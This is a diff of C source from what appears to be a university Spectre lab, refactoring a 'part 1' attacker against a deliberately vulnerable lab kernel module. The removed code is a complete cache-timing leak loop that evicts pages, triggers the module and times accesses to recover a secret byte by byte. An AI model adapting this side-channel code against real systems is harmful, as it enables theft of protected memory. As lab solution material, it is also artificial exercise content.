@@ -11,70 +11,47 @@
 #include <ctype.h>
 
 #include "labspectreipc.h"
-#include "spectre_solution.h"
+#include "spectre_attacker.h"
 
 /*
- * call_kernel_part1
- * Performs the COMMAND_PART1 call in the kernel
+ * setup_part1
+ * Describes how part 1 probes the kernel
  *
  * Arguments:
- *  - kernel_fd: A file descriptor to the kernel module
- *  - shared_memory: Memory region to share with the kernel
- *  - offset: The offset into the secret to try and read
+ *  - kernel_fd: A file descriptor referring to the lab vulnerable kernel module
+ *  - shared_memory: A pointer to a region of memory shared with the server
+ *  - cache_stats: Calibration to take the hit threshold from
+ *  - probe: Filled in with how to run a sweep
+ *  - decision: Filled in with when to commit to a byte
  */
-static inline void call_kernel_part1(int kernel_fd, char *shared_memory, size_t offset)
+static void setup_part1(int kernel_fd, char *shared_memory, const CacheStats *cache_stats,
+                        ProbeConfig *probe, DecisionConfig *decision)
 {
-    spectre_lab_command local_cmd;
-    local_cmd.kind = COMMAND_PART1;
-    local_cmd.arg1 = (uint64_t)shared_memory;
-    local_cmd.arg2 = (uint64_t)offset;
-
-    write(kernel_fd, (void *)&local_cmd, sizeof(local_cmd));
+    *probe = (ProbeConfig) {
+        .kernel_fd = kernel_fd,
+        .shared_memory = shared_memory,
+        .kind = COMMAND_PART1,
+        .num_training = 0,
+        .evict_repeats = 0,
+        .eviction_set = NULL,
+        .field_bits = probe_field_bits,
+    };
+    *decision = default_decision_config(cache_stats->threshold);
 }
 
 /*
- * run_attacker
- *
- * Arguments:
- *  - kernel_fd: A file descriptor referring to the lab vulnerable kernel module
- *  - shared_memory: A pointer to a region of memory shared with the server
+ * teardown_part1
+ * Releases what setup_part1 allocated
  */
-int run_attacker(int kernel_fd, char *shared_memory)
+static void teardown_part1(ProbeConfig *probe)
 {
-    char leaked_str[SHD_SPECTRE_LAB_SECRET_MAX_LEN];
-    size_t current_offset = 0;
-    CacheStats cache_stats = generate_cache_stats(1000);
-    printf("Launching attacker\n");
-    
-    for (current_offset = 0; current_offset < SHD_SPECTRE_LAB_SECRET_MAX_LEN; current_offset++)
-    {
-        char leaked_byte;
-        bool found = false;
-        while(!found)
-        {
-            for (size_t i = 0; i < SHD_SPECTRE_LAB_SHARED_MEMORY_NUM_PAGES; i++) 
-            {
-                void* target_addr = shared_memory + i * SHD_SPECTRE_LAB_PAGE_SIZE;
-                evict_address(target_addr);
-                //REPEAT(10) evict_all_cache();
-                call_kernel_part1(kernel_fd, shared_memory, current_offset);
-                uint64_t time = time_access(target_addr);
-                if (time <= cache_stats.l2 + 20 /*Plus some padding*/) {
-                    leaked_byte = (char)i;
-                    found = true;
-                    break;
-                }
-            }
-        }
-        //printf("[Part 1] Found char:%c:\n", leaked_byte);
-        leaked_str[current_offset] = leaked_byte;
-        if (leaked_byte == '\x00') {
-            break;
-        }
-    }
-
-    printf("\n\n[Part 1] We leaked:\n%s\n", leaked_str);
-    destroy_cache_stats(cache_stats);
-    close(kernel_fd);
-    return EXIT_SUCCESS;
+    // Nothing to release
 }
+
+const AttackerPart attacker_part1 = {
+    .name = "part1",
+    .label = "Part 1",
+    .print_bytes = false,
+    .setup = setup_part1,
+    .teardown = teardown_part1,
+};